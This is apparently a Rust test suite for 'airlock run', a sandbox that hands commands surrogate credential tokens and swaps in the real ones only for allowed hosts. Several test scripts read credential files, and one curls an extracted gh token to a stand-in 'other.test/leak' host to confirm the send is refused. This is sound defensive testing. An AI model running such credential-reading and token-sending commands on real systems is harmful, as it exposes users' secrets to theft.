//! The user's credential files under `airlock run` (docs/secrets.md, "Credential files"):
//! a home holding every known store with real-looking canary tokens and a policy turning
//! every store on. Inside, the command reads each file and finds the same shape with no
//! real token; a projected token sent with curl (gh's, netrc's through `--netrc`) and by
//! the npm client itself to its own host (a local TLS upstream behind `--resolve`)
//! arrives there as the real value, and the same surrogate sent to another host is
//! refused `secret_out_of_scope`; git with `credential.helper=store` clones from the test
//! git server with the real password; files that cannot be projected are hidden and named
//! on stderr; the real Claude Code CLI logged in through `.credentials.json` only reaches
//! the model server with the real access token, and the real Codex CLI signed in with
//! ChatGPT through `auth.json` only reaches chatgpt.com with the real access token.
//! `.ci/run` also runs this as an ordinary user.

use std::path::{Path, PathBuf};

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

use crate::support::run::{RunHome, code, json_after, namespaces_available};
use crate::support::{TestPki, Upstream};

const CLAUDE_ACCESS: &str = "sk-ant-oat01-REALclaudeACCESS0123456789abcdefghijklmnopqrstuvwxyzAB";
const CLAUDE_REFRESH: &str = "sk-ant-ort01-REALclaudeREFRESH0123456789abcdefghijklmnopqrstuvwxyz";
const CODEX_REFRESH: &str = "rt_REALcodexREFRESH0123456789abcdefghij";
const GH: &str = "gho_REALghTOKEN0123456789abcdefghijklmnop";
const GIT: &str = "ghp_REALgitTOKEN0123456789abcdefghijklmno";
const DOCKER: &str = "dckr_pat_REALdockerTOKEN0123456789abcdef";
const NPM: &str = "npm_REALnpmTOKEN0123456789abcdefghijklmnop";
const PYPI: &str = "pypi-REALpypiTOKEN0123456789abcdefghijklm";
const NETRC: &str = "REALnetrcPASSWORD0123456789abcdef";

fn codex_jwt(what: &str) -> String {
    let header = URL_SAFE_NO_PAD.encode(br#"{"alg":"RS256","typ":"JWT"}"#);
    let payload = URL_SAFE_NO_PAD.encode(format!(r#"{{"sub":"{what}","exp":4102444800}}"#));
    format!("{header}.{payload}.REALcodexSIGNATURE{what}0123456789abcdefghij")
}

/// Every store's file (path under the home, content) with canaries; `host` is the host
/// of the tokens whose host the file names.
fn store_files(host: &str) -> Vec<(&'static str, String)> {
    let docker_auth = STANDARD.encode(format!("me:{DOCKER}"));
    vec![
        (
            ".claude/.credentials.json",
            format!(
                "{{\n  \"claudeAiOauth\": {{\n    \"accessToken\": \"{CLAUDE_ACCESS}\",\n    \"refreshToken\": \"{CLAUDE_REFRESH}\",\n    \"expiresAt\": 4102444800000,\n    \"scopes\": [\"user:inference\"]\n  }}\n}}\n"
            ),
        ),
        (
            ".codex/auth.json",
            format!(
                "{{\"auth_mode\":\"chatgpt\",\"OPENAI_API_KEY\":null,\"tokens\":{{\"id_token\":\"{}\",\"access_token\":\"{}\",\"refresh_token\":\"{CODEX_REFRESH}\",\"account_id\":\"acc\"}}}}",
                codex_jwt("id"),
                codex_jwt("access")
            ),
        ),
        (
            ".config/gh/hosts.yml",
            format!("{host}:\n    oauth_token: {GH}\n    git_protocol: https\n    user: me\n"),
        ),
        (".git-credentials", format!("https://me:{GIT}@{host}\n")),
        (
            ".docker/config.json",
            format!(
                "{{\n\t\"auths\": {{\n\t\t\"{host}\": {{\n\t\t\t\"auth\": \"{docker_auth}\"\n\t\t}}\n\t}}\n}}\n"
            ),
        ),
        (".npmrc", format!("//{host}/:_authToken={NPM}\n")),
        (
            ".pypirc",
            format!(
                "[distutils]\nindex-servers = pypi\n\n[pypi]\nusername = __token__\npassword = {PYPI}\n"
            ),
        ),
        (
            ".netrc",
            format!("machine {host}\n  login me\n  password {NETRC}\n"),
        ),
    ]
}

fn reals() -> Vec<String> {
    let mut reals: Vec<String> = [
        CLAUDE_ACCESS,
        CLAUDE_REFRESH,
        CODEX_REFRESH,
        GH,
        GIT,
        DOCKER,
        NPM,
        PYPI,
        NETRC,
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    reals.push(codex_jwt("id"));
    reals.push(codex_jwt("access"));
    reals.push(STANDARD.encode(format!("me:{DOCKER}")));
    reals
}

/// A home under the run's scratch directory with `files` and the policy file.
pub(crate) fn make_home(run: &RunHome, files: &[(&str, String)], policy: &str) -> PathBuf {
    let home = run.scratch().join("home");
    for (path, content) in files {
        let path = home.join(path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("dir");
        std::fs::write(&path, content).expect("write");
    }
    std::fs::write(home.join("policy.yaml"), policy).expect("policy");
    if let Some(uid) = crate::support::test_user::uid() {
        crate::support::test_user::chown_tree(&run.scratch(), uid);
    }
    home
}

pub(crate) fn run_in(
    run: &RunHome,
    home: &Path,
    flags: &[String],
    script: &str,
) -> (String, String, i32) {
    let policy = home.join("policy.yaml").to_string_lossy().into_owned();
    let log = run.log_path().to_string_lossy().into_owned();
    let mut args: Vec<&str> = vec!["--policy", &policy, "--log", &log];
    args.extend(flags.iter().map(String::as_str));
    args.extend_from_slice(&["--", "sh", "-c", script]);
    let home_text = home.to_string_lossy().into_owned();
    let output = run.run_with_env(&args, &[("HOME", &home_text)]);
    let status = code(&output);
    (
        String::from_utf8_lossy(&output.stdout).into_owned(),
        output.stderr.clone(),
        status,
    )
}

#[test]
fn every_store_is_projected_same_shape_no_real_token() {
    if !namespaces_available("every_store_is_projected_same_shape_no_real_token") {
        return;
    }
    let run = RunHome::new();
    let files = store_files("git.example.com");
    let home = make_home(&run, &files, "version: 1\ncredentials:\n  files: all\n");
    let script: String = files
        .iter()
        .map(|(path, _)| format!("echo '=== {path}'; cat ~/{path}; echo '=== end'; "))
        .collect();
    let script = format!(
        "{script} if (echo planted >> ~/.netrc) 2>/dev/null; then echo WRITE=ok; else echo WRITE=refused; fi; \
         if mv ~/.claude/.credentials.json ~/.claude/moved 2>/dev/null; then echo MOVE=ok; else echo MOVE=refused; fi"
    );
    let (stdout, stderr, status) = run_in(&run, &home, &[], &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert!(
        stdout.contains("WRITE=refused") && stdout.contains("MOVE=refused"),
        "{stdout}"
    );
    assert!(
        stderr.contains(
            "credential files: projected with surrogates: claude, codex, gh, git, docker, npm, pypi, netrc"
        ),
        "{stderr}"
    );
    for real in reals() {
        assert!(
            !stdout.contains(&real),
            "a real token was seen inside: {stdout}"
        );
        assert!(!stderr.contains(&real), "a real token is on stderr");
    }
    for (path, content) in &files {
        let start = format!("=== {path}\n");
        let shown = stdout
            .split_once(&start)
            .and_then(|(_, rest)| rest.split_once("=== end"))
            .map(|(shown, _)| shown)
            .unwrap_or_else(|| panic!("{path} not shown: {stdout}"));
        assert_eq!(shown.len(), content.len(), "{path}: {shown}");
        assert_eq!(shown.lines().count(), content.lines().count(), "{path}");
        assert_ne!(shown, content.as_str(), "{path} is shown as it is");
    }
    // The host's files were not changed.
    for (path, content) in &files {
        assert_eq!(
            &std::fs::read_to_string(home.join(path)).expect("read"),
            content
        );
    }
    let log = std::fs::read_to_string(run.log_path()).unwrap_or_default();
    for real in reals() {
        assert!(!log.contains(&real), "a real token is in the audit log");
    }
}

#[test]
fn a_projected_token_is_real_at_its_host_and_refused_elsewhere() {
    if !namespaces_available("a_projected_token_is_real_at_its_host_and_refused_elsewhere") {
        return;
    }
    crate::support::need_all(&["curl", "npm"]);
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let port = upstream.port();
    let run = RunHome::new();
    let mut files: Vec<(&str, String)> = store_files("allowed.test")
        .into_iter()
        .filter(|(path, _)| matches!(*path, ".config/gh/hosts.yml" | ".netrc"))
        .collect();
    // npm matches its registry URL, port included.
    files.push((
        ".npmrc",
        format!("//allowed.test:{port}/:_authToken={NPM}\n"),
    ));
    let policy = "version: 1\ncredentials:\n  files: [gh, npm, netrc]\n";
    let home = make_home(&run, &files, policy);
    let flags: Vec<String> = [
        "--resolve",
        "allowed.test:127.0.0.1",
        "--resolve",
        "other.test:127.0.0.1",
        "--upstream-ca",
        &pki.upstream_ca_cert.to_string_lossy(),
        "--allow",
        &format!("allowed.test:{port}"),
        "--allow",
        &format!("other.test:{port}"),
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let script = format!(
        "T=$(sed -n 's/.*oauth_token: //p' ~/.config/gh/hosts.yml); \
         N=$(sed -n 's/.*_authToken=//p' ~/.npmrc); \
         echo GH; curl -sS --max-time 20 -H \"Authorization: token $T\" https://allowed.test:{port}/gh; echo; \
         echo NPM; curl -sS --max-time 20 -H \"Authorization: Bearer $N\" https://allowed.test:{port}/npm; echo; \
         echo NETRC; curl -sS --max-time 20 --netrc https://allowed.test:{port}/netrc; echo; \
         echo NPMCLI; npm view demo-pkg --registry https://allowed.test:{port}/ --fetch-retries=0 --no-update-notifier >/dev/null 2>&1; echo; \
         echo OTHER; curl -sS --max-time 20 -H \"Authorization: token $T\" https://other.test:{port}/leak; echo"
    );
    let (stdout, stderr, status) = run_in(&run, &home, &flags, &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    for marker in ["GH", "NPM", "NETRC"] {
        assert!(
            json_after(&stdout, marker)["path"].as_str().is_some(),
            "{marker}: {stdout}\n{stderr}"
        );
    }
    let other = json_after(&stdout, "OTHER");
    assert_eq!(other["reason"], "secret_out_of_scope", "{stdout}");
    let hits = upstream.hits();
    let authorization = |path: &str| {
        hits.iter()
            .find(|hit| hit.target == path)
            .map(|hit| hit.header_values("authorization"))
            .unwrap_or_else(|| panic!("no request to {path}: {hits:?}"))
    };
    assert_eq!(authorization("/gh"), [format!("token {GH}")]);
    assert_eq!(authorization("/npm"), [format!("Bearer {NPM}")]);
    let basic = format!("Basic {}", STANDARD.encode(format!("me:{NETRC}")));
    assert_eq!(authorization("/netrc"), [basic]);
    assert!(hits.iter().all(|hit| hit.target != "/leak"), "{hits:?}");
    // The npm client itself reads ~/.npmrc and sends the token to its registry.
    assert_eq!(authorization("/demo-pkg"), [format!("Bearer {NPM}")]);
    for real in [GH, NPM, NETRC] {
        assert!(!stdout.contains(real), "the command saw a real token");
    }
}

#[test]
fn files_that_cannot_be_projected_are_hidden_and_named() {
    if !namespaces_available("files_that_cannot_be_projected_are_hidden_and_named") {
        return;
    }
    let run = RunHome::new();
    let files: Vec<(&str, String)> = vec![
        (
            ".npmrc",
            "_auth=bWU6UkVBTG5wbUNBTkFSWTAxMjM0NQ==\n".to_owned(),
        ),
        (
            ".pypirc",
            "this is [not an ini file\npassword REALpypiCANARY0123\n".to_owned(),
        ),
        (
            ".netrc",
            format!("machine h.example.com login me password {NETRC}\n"),
        ),
    ];
    let policy = "version: 1\ncredentials:\n  files: [npm, pypi]\n  hide: [netrc]\n";
    let home = make_home(&run, &files, policy);
    let script =
        "echo NPM; cat ~/.npmrc; echo PYPI; cat ~/.pypirc; echo NETRC; cat ~/.netrc; echo END";
    let (stdout, stderr, status) = run_in(&run, &home, &[], script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert_eq!(stdout, "NPM\nPYPI\nNETRC\nEND\n", "{stderr}");
    assert!(
        stderr.contains("credential files: hidden: npm ("),
        "{stderr}"
    );
    assert!(stderr.contains("pypi (cannot be parsed"), "{stderr}");
    assert!(stderr.contains("netrc (hidden by the policy)"), "{stderr}");
    assert!(
        !stderr.contains("REAL") && !stderr.contains("bWU6"),
        "{stderr}"
    );
}

/// The real Claude Code CLI logged in through `~/.claude/.credentials.json` only (no API
/// key, a token valid until 2100), with its profile (which projects that file), against
/// the scripted model server as api.anthropic.com: its model calls carry the real access
/// token, and the command (the probe, which also prints the file) saw only surrogates.
#[test]
fn claude_code_logged_in_by_its_credentials_file_sends_the_real_token() {
    use crate::support::agents::{
        Agent, FINAL_TEXT, ModelServer, Place, airlock_command, can_serve_443, header_values,
        message_calls,
    };
    let test = "claude_code_logged_in_by_its_credentials_file_sends_the_real_token";
    let address = "127.33.35.1";
    if !namespaces_available(test) || !can_serve_443(address) {
        return;
    }
    let agent = Agent::Claude;
    let executable = agent.executable();
    let pki = TestPki::new();
    let place = Place::new(agent);
    let record = place.logs().join("model-requests.jsonl");
    let server = ModelServer::start(&pki, address, &record, "sh probe.sh");
    let credentials = place.home().join(".claude/.credentials.json");
    let file = format!(
        "{{\"claudeAiOauth\":{{\"accessToken\":\"{CLAUDE_ACCESS}\",\"refreshToken\":\"{CLAUDE_REFRESH}\",\"expiresAt\":4102444800000,\"scopes\":[\"user:inference\",\"user:profile\",\"user:sessions:claude_code\"],\"subscriptionType\":\"max\",\"rateLimitTier\":\"default_claude_max_20x\"}}}}"
    );
    std::fs::write(&credentials, &file).expect("credentials");
    let probe = place.project().join("probe.sh");
    let mut script = std::fs::read_to_string(&probe).expect("probe");
    script.insert_str(
        0,
        "cat \"$HOME/.claude/.credentials.json\" > seen-credentials.json\n",
    );
    std::fs::write(&probe, script).expect("probe");
    if let Some(uid) = crate::support::test_user::uid() {
        crate::support::test_user::chown_tree(&place.home(), uid);
    }
    let mut command = airlock_command();
    command
        .arg("run")
        .args(["--upstream-ca", &pki.upstream_ca_cert.to_string_lossy()])
        .args(["--resolve", &format!("api.anthropic.com:{address}")])
        .args(["--resolve", &format!("platform.claude.com:{address}")])
        .args(["--log", &place.audit_log().to_string_lossy()])
        .arg("--")
        .arg(&executable)
        .args(agent.arguments())
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", place.home())
        .env("AIRLOCK_HOME", place.logs().join("airlock-home"))
        .current_dir(place.project());
    let output = crate::support::run_bounded(&mut command, crate::support::agents::AGENT_TIMEOUT);
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let context = format!("stdout:\n{stdout}\nstderr:\n{}", output.stderr);
    assert_eq!(code(&output), 0, "{context}");
    assert!(stdout.contains(FINAL_TEXT), "no final answer: {context}");
    assert!(
        output
            .stderr
            .contains("credential files: projected with surrogates: claude"),
        "{context}"
    );
    let requests = server.requests();
    let calls = message_calls(&requests);
    assert!(!calls.is_empty(), "no model call: {requests:#?}\n{context}");
    for call in &calls {
        assert_eq!(
            header_values(call, "authorization"),
            [format!("Bearer {CLAUDE_ACCESS}")],
            "{}",
            call["path"]
        );
    }
    let seen = std::fs::read_to_string(place.project().join("seen-credentials.json"))
        .expect("the probe ran");
    assert!(seen.contains("\"accessToken\":\"sk-ant-oat01-"), "{seen}");
    assert_eq!(seen.len(), file.len());
    let audit = std::fs::read_to_string(place.audit_log()).unwrap_or_default();
    for real in [CLAUDE_ACCESS, CLAUDE_REFRESH] {
        assert!(!seen.contains(real), "the command saw a real token");
        assert!(!stdout.contains(real) && !output.stderr.contains(real) && !audit.contains(real));
    }
    assert_eq!(
        std::fs::read_to_string(&credentials).expect("host file"),
        file
    );
}

/// git with `credential.helper=store` and the projected `~/.git-credentials` clones from
/// the test git server (which demands the real password): the surrogate read from the
/// file is swapped inside the Basic credentials; the saved-again credentials never reach
/// the host's file.
#[test]
fn git_with_its_credentials_file_clones_with_the_real_token() {
    use crate::support::fixture_server::{FixtureServer, make_repository};
    if !namespaces_available("git_with_its_credentials_file_clones_with_the_real_token") {
        return;
    }
    crate::support::need_all(&["git", "python3"]);
    let pki = TestPki::new();
    let repos = tempfile::tempdir().expect("repos");
    let files = make_repository(&repos.path().join("repos"), repos.path());
    let server = FixtureServer::git_with_password(&pki, &repos.path().join("repos"), GIT);
    let port = server.port;
    let run = RunHome::new();
    let credentials = format!("https://me:{GIT}@allowed.test:{port}\n");
    let home = make_home(
        &run,
        &[
            (".git-credentials", credentials.clone()),
            (
                ".gitconfig",
                "[credential]\n\thelper = store\n[user]\n\tname = t\n\temail = t@t.invalid\n"
                    .to_owned(),
            ),
        ],
        "version: 1\ncredentials:\n  files: [git]\n",
    );
    let flags: Vec<String> = [
        "--resolve",
        "allowed.test:127.0.0.1",
        "--upstream-ca",
        &pki.upstream_ca_cert.to_string_lossy(),
        "--allow",
        &format!("allowed.test:{port}"),
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let script = format!(
        "GIT_TERMINAL_PROMPT=0 git clone -q https://allowed.test:{port}/repo.git out; echo \"clone=$?\"; \
         cat out/README.md; cat ~/.git-credentials"
    );
    let (stdout, stderr, status) = run_in(&run, &home, &flags, &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains("clone=0"), "{stdout}\n{stderr}");
    assert!(stdout.contains(&files[0].1), "{stdout}");
    assert!(
        !stdout.contains(GIT) && !stderr.contains(GIT),
        "the real token was seen"
    );
    let hits = server.hit_lines();
    assert!(
        hits.iter().any(|line| line.ends_with("auth=ok")),
        "{hits:?}"
    );
    assert!(
        hits.iter().all(|line| !line.ends_with("auth=wrong")),
        "{hits:?}"
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".git-credentials")).expect("host file"),
        credentials
    );
}

/// A JWT with the claims Codex reads from a ChatGPT sign-in, and `signature`.
fn chatgpt_jwt(signature: &str) -> String {
    let header = URL_SAFE_NO_PAD.encode(br#"{"alg":"RS256","typ":"JWT"}"#);
    let payload = URL_SAFE_NO_PAD.encode(
        br#"{"email":"user@example.com","exp":4102444800,"https://api.openai.com/auth":{"chatgpt_plan_type":"plus","chatgpt_account_id":"acct","chatgpt_user_id":"user"}}"#,
    );
    format!("{header}.{payload}.{signature}")
}

/// The real Codex CLI signed in with ChatGPT through `~/.codex/auth.json` only (no API
/// key), with its profile plus chatgpt.com, against the scripted model server as
/// chatgpt.com: every request of its ChatGPT backend calls carries the real access token
/// (swapped from the surrogate it read), none a surrogate. (Its model turn is not reached:
/// Codex 0.163 first needs ChatGPT's workspace routing, `/backend-api/wham/accounts/check`,
/// which the model server does not script.)
#[test]
fn codex_signed_in_by_its_auth_file_sends_the_real_token_to_chatgpt() {
    use crate::support::agents::{
        Agent, ModelServer, Place, airlock_command, can_serve_443, header_values,
    };
    let test = "codex_signed_in_by_its_auth_file_sends_the_real_token_to_chatgpt";
    let address = "127.33.35.2";
    if !namespaces_available(test) || !can_serve_443(address) {
        return;
    }
    let agent = Agent::Codex;
    let executable = agent.executable();
    let pki = TestPki::new();
    let place = Place::new(agent);
    let record = place.logs().join("model-requests.jsonl");
    let server = ModelServer::start(&pki, address, &record, "sh probe.sh");
    let access = chatgpt_jwt("REALcodexACCESSsignature0123456789abcdefghij");
    let id = chatgpt_jwt("REALcodexIDsignature0123456789abcdefghijklmn");
    let now = std::process::Command::new("date")
        .args(["-u", "+%Y-%m-%dT%H:%M:%S.000000Z"])
        .output()
        .expect("date");
    let now = String::from_utf8_lossy(&now.stdout).trim().to_owned();
    let auth = place.home().join(".codex/auth.json");
    let file = format!(
        "{{\n  \"auth_mode\": \"chatgpt\",\n  \"OPENAI_API_KEY\": null,\n  \"tokens\": {{\n    \"id_token\": \"{id}\",\n    \"access_token\": \"{access}\",\n    \"refresh_token\": \"{CODEX_REFRESH}\",\n    \"account_id\": \"acct\"\n  }},\n  \"last_refresh\": \"{now}\"\n}}"
    );
    std::fs::write(&auth, &file).expect("auth.json");
    if let Some(uid) = crate::support::test_user::uid() {
        crate::support::test_user::chown_tree(&place.home(), uid);
    }
    let mut command = airlock_command();
    command
        .arg("run")
        .args(["--upstream-ca", &pki.upstream_ca_cert.to_string_lossy()])
        .args(["--allow", "chatgpt.com"])
        .args(["--resolve", &format!("chatgpt.com:{address}")])
        .args(["--resolve", &format!("api.openai.com:{address}")])
        .args(["--resolve", &format!("auth.openai.com:{address}")])
        .args(["--log", &place.audit_log().to_string_lossy()])
        .arg("--")
        .arg(&executable)
        .args(agent.arguments())
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", place.home())
        .env("AIRLOCK_HOME", place.logs().join("airlock-home"))
        .current_dir(place.project());
    let output = crate::support::run_bounded(&mut command, crate::support::agents::AGENT_TIMEOUT);
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let requests = server.requests();
    let context = format!(
        "stdout:\n{stdout}\nstderr:\n{}\nrequests: {requests:#?}",
        output.stderr
    );
    assert!(
        output
            .stderr
            .contains("credential files: projected with surrogates: codex"),
        "{context}"
    );
    let calls: Vec<&serde_json::Value> = requests
        .iter()
        .filter(|r| {
            r["path"]
                .as_str()
                .is_some_and(|p| p.starts_with("/backend-api/"))
        })
        .collect();
    assert!(!calls.is_empty(), "no ChatGPT backend call: {context}");
    for call in &calls {
        assert_eq!(
            header_values(call, "authorization"),
            [format!("Bearer {access}")],
            "{}",
            call["path"]
        );
    }
    let audit = std::fs::read_to_string(place.audit_log()).unwrap_or_default();
    for real in [access.as_str(), id.as_str(), CODEX_REFRESH] {
        assert!(!stdout.contains(real) && !output.stderr.contains(real) && !audit.contains(real));
    }
    assert_eq!(std::fs::read_to_string(&auth).expect("host file"), file);
}

/// Review 35, F6: a store the policy turns on whose file is absent, in a directory the
/// command may write (the claude profile's `~/.claude`): the command creates the file
/// (planting its own login) in the run's private copy of `~/.claude`, which is never
/// copied back under a store's name: after the run the host has no such file and nothing
/// was set aside.
#[test]
fn an_absent_store_file_the_command_creates_stays_in_the_run() {
    if !namespaces_available("an_absent_store_file_the_command_creates_stays_in_the_run") {
        return;
    }
    let run = RunHome::new();
    let files = vec![(".claude/settings.json", "{}\n".to_owned())];
    let policy =
        "version: 1\ncredentials:\n  files: [claude]\nfilesystem:\n  writable: [\"~/.claude\"]\n";
    let home = make_home(&run, &files, policy);
    let planted =
        r#"{"claudeAiOauth":{"accessToken":"sk-ant-oat01-PLANTEDbyJAIL0123456789abcdef"}}"#;
    let script = format!(
        "printf '%s' '{planted}' > ~/.claude/.credentials.json && echo PLANTED; \
         cat ~/.claude/.credentials.json >/dev/null && echo READ"
    );
    let (stdout, stderr, status) = run_in(&run, &home, &[], &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert!(
        stdout.contains("PLANTED") && stdout.contains("READ"),
        "{stdout}\n{stderr}"
    );
    assert!(
        stderr.contains("credential file directories: private to the run"),
        "{stderr}"
    );
    let host = home.join(".claude/.credentials.json");
    assert!(
        std::fs::symlink_metadata(&host).is_err(),
        "the command's file reached the host: {stdout}\n{stderr}"
    );
    assert!(
        !home
            .join(".claude/.credentials.json.airlock-quarantine")
            .exists()
    );
}

/// Starts a thread that waits (bounded) for `started` and then renames a new file holding
/// `canary` over `host`, as the user's own Claude Code saves a refreshed login outside.
fn rename_over_when(
    started: PathBuf,
    host: PathBuf,
    canary: &str,
) -> std::thread::JoinHandle<bool> {
    let new = format!("{{\"claudeAiOauth\":{{\"accessToken\":\"{canary}\"}}}}");
    std::thread::spawn(move || {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        while !started.exists() && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let tmp = host.with_file_name(".credentials.json.tmp.1");
        std::fs::write(&tmp, new).expect("new file");
        std::fs::rename(&tmp, &host).expect("rename over");
        started.exists()
    })
}

/// The command's loop: marks the start in a live directory of `~/.claude` (seen by the
/// host), then reads the credential file 150 times, 0.1 s apart, printing each distinct
/// content once.
const READ_LOOP: &str = "mkdir -p ~/.claude/projects && touch ~/.claude/projects/started; \
    i=0; while [ $i -lt 150 ]; do cat ~/.claude/.credentials.json 2>&1; echo; \
    sleep 0.1; i=$((i+1)); done | sort -u; echo FINISHED";

/// A writable `~/.claude` holding `login` as its credentials file, a run of [`READ_LOOP`]
/// during which the host renames a file holding `canary` over that file: the host's path
/// and the run's output, status checked by the caller.
fn rename_during_run(run: &RunHome, login: String, canary: &str) -> (PathBuf, String, String, i32) {
    let files = vec![
        (".claude/.credentials.json", login),
        (".claude/projects/.keep", String::new()),
    ];
    let policy =
        "version: 1\ncredentials:\n  files: [claude]\nfilesystem:\n  writable: [\"~/.claude\"]\n";
    let home = make_home(run, &files, policy);
    let host = home.join(".claude/.credentials.json");
    let renamer = rename_over_when(home.join(".claude/projects/started"), host.clone(), canary);
    let (stdout, stderr, status) = run_in(run, &home, &[], READ_LOOP);
    assert!(
        renamer.join().expect("renamer"),
        "the command never started"
    );
    (host, stdout, stderr, status)
}

/// Review 35, F1: a host process (the user's own Claude Code saving its refreshed login)
/// renames a new file over `.credentials.json` while the command runs in a jail whose
/// `~/.claude` is writable. `~/.claude` is the run's private directory, so the name is not
/// shared with the host: the run goes on (no 125), the command keeps reading its
/// surrogate copy and never sees the new real token, and the host keeps its new file.
#[test]
fn a_host_rename_over_a_projected_file_changes_nothing_inside() {
    if !namespaces_available("a_host_rename_over_a_projected_file_changes_nothing_inside") {
        return;
    }
    let run = RunHome::new();
    let login = format!(
        "{{\"claudeAiOauth\":{{\"accessToken\":\"{CLAUDE_ACCESS}\",\"refreshToken\":\
         \"{CLAUDE_REFRESH}\",\"expiresAt\":1,\"scopes\":[\"user:inference\"]}}}}"
    );
    let canary = "sk-ant-oat01-HOSTrenamedCANARY0123456789abcdefghijklmnopqrstuvwxyz";
    let (host, stdout, stderr, status) = rename_during_run(&run, login, canary);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains("FINISHED"), "{stdout}\n{stderr}");
    assert!(
        !stdout.contains(canary) && !stdout.contains(CLAUDE_ACCESS),
        "{stdout}"
    );
    // One content only, the surrogate copy, all along.
    let shown: Vec<&str> = stdout
        .lines()
        .filter(|l| l.contains("claudeAiOauth"))
        .collect();
    assert_eq!(shown.len(), 1, "{stdout}");
    assert!(shown[0].contains("sk-ant-oat01-"), "{stdout}");
    assert!(!stderr.contains("the run was stopped"), "{stderr}");
    assert!(
        std::fs::read_to_string(&host)
            .expect("host")
            .contains(canary)
    );
    let audit = std::fs::read_to_string(run.log_path()).unwrap_or_default();
    assert!(!audit.contains(CLAUDE_REFRESH) && !audit.contains(canary));
}

/// Review 35 rereview G1: the same host rename over a *hidden* credential file (one that
/// cannot be parsed: an empty read-only file in the run's private `~/.claude`): the run
/// goes on and the command never sees the host's new file.
#[test]
fn a_host_rename_over_a_hidden_file_changes_nothing_inside() {
    if !namespaces_available("a_host_rename_over_a_hidden_file_changes_nothing_inside") {
        return;
    }
    let run = RunHome::new();
    let unparseable = format!("not json {{ \"accessToken\": \"{CLAUDE_ACCESS}\"");
    let canary = "sk-ant-oat01-HOSTrenamedHIDDEN0123456789abcdefghijklmnopqrstuvwxyz";
    let (_, stdout, stderr, status) = rename_during_run(&run, unparseable, canary);
    assert!(stderr.contains("hidden: claude ("), "{stderr}");
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert_eq!(stdout.trim(), "FINISHED", "{stderr}");
    let audit = std::fs::read_to_string(run.log_path()).unwrap_or_default();
    assert!(!audit.contains(CLAUDE_ACCESS) && !audit.contains(canary));
    assert!(!stderr.contains(CLAUDE_ACCESS) && !stderr.contains(canary));
}
